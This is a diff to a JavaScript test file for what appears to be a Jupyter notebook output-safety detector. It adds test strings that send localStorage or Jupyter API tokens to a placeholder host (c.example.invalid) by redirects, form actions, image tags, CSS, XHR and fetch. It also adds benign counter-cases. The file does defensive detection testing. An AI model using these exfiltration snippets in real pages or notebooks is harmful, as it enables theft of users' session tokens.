@@ -49,6 +49,38 @@ describe('a script in an output', () => {
     [SCRIPT, 'window.jupyterapp.commands.execute("notebook:run-all-cells")', KERNEL],
     [SCRIPT, 'fetch("/ap" + "i/terminals", { method: "POST" })', KERNEL],
     [SCRIPT, 'var d = document; new Image().src = "https://c.example.invalid/?" + d["coo" + "kie"]', KERNEL],
+    [SCRIPT, 'location = "https://c.example.invalid/?" + localStorage.getItem("t")', KERNEL],
+    [SCRIPT, 'window.location = "https://c.example.invalid/?" + localStorage.getItem("t")', KERNEL],
+    [SCRIPT, 'document.location = "https://c.example.invalid/?" + localStorage.getItem("t")', KERNEL],
+    [SCRIPT, 'window.open("https://c.example.invalid/?" + localStorage.getItem("t"))', KERNEL],
+    [
+      SCRIPT,
+      'var a = document.createElement("a"); a.href = "https://c.example.invalid/?" + localStorage.getItem("t"); a.click()',
+      KERNEL,
+    ],
+    [SCRIPT, 'document.forms[0].action = "https://c.example.invalid/?" + localStorage.getItem("t")', KERNEL],
+    [
+      SCRIPT,
+      'document.write("<img src=\\"https://c.example.invalid/?" + localStorage.getItem("t") + "\\">")',
+      KERNEL,
+    ],
+    [SCRIPT, 'element.append("<img src=//c.example.invalid/?" + localStorage.getItem("t") + ">")', KERNEL],
+    [
+      SCRIPT,
+      'document.body.style.backgroundImage = "url(https://c.example.invalid/?" + localStorage.getItem("t") + ")"',
+      KERNEL,
+    ],
+    [
+      SCRIPT,
+      'var x = new XMLHttpRequest(); x.open("GET", "https://c.example.invalid/?" + localStorage.getItem("t")); x.send()',
+      KERNEL,
+    ],
+    [SCRIPT, 'fetch("https://c.example.invalid/?" + document.body.dataset.jupyterApiToken)', KERNEL],
+    [
+      SCRIPT,
+      'fetch("//c.example.invalid/?" + JSON.parse(document.getElementById("jupyter-config-data").textContent).token)',
+      KERNEL,
+    ],
     [SCRIPT, 'navigator.sendBeacon("https://c.example.invalid/", localStorage.getItem("token"))', KERNEL],
     [
       SCRIPT,
@@ -123,6 +155,14 @@ describe('a script in an output', () => {
     [SCRIPT, 'var i = document.createElement("img"); i.src = "https://c.example.invalid/a.png"; put(i)'],
     [SCRIPT, 'var i = new Image(); i.src = "/a.png?" + localStorage.theme; i.title = localStorage.theme'],
     [SCRIPT, 'window.location.href = "https://example.invalid/docs"; localStorage.setItem("a", "b")'],
+    [
+      SCRIPT,
+      'location = "/tree?" + localStorage.getItem("last"); document.title = localStorage.getItem("t")',
+    ],
+    [
+      SCRIPT,
+      'location = "https://example.invalid/docs"; var a = document.createElement("a"); a.href = "https://example.invalid/" + page',
+    ],
     [SCRIPT, 'setTimeout(function() { Plotly.newPlot("a", [{ "x": [1] }]) }, 10)'],
     [HTML, '<script type="application/json">{"a": "Jupyter.notebook.kernel.execute"}</script>'],
     [HTML, '<p>Jupyter.notebook.kernel.execute(1)</p><script>render()</script>'],
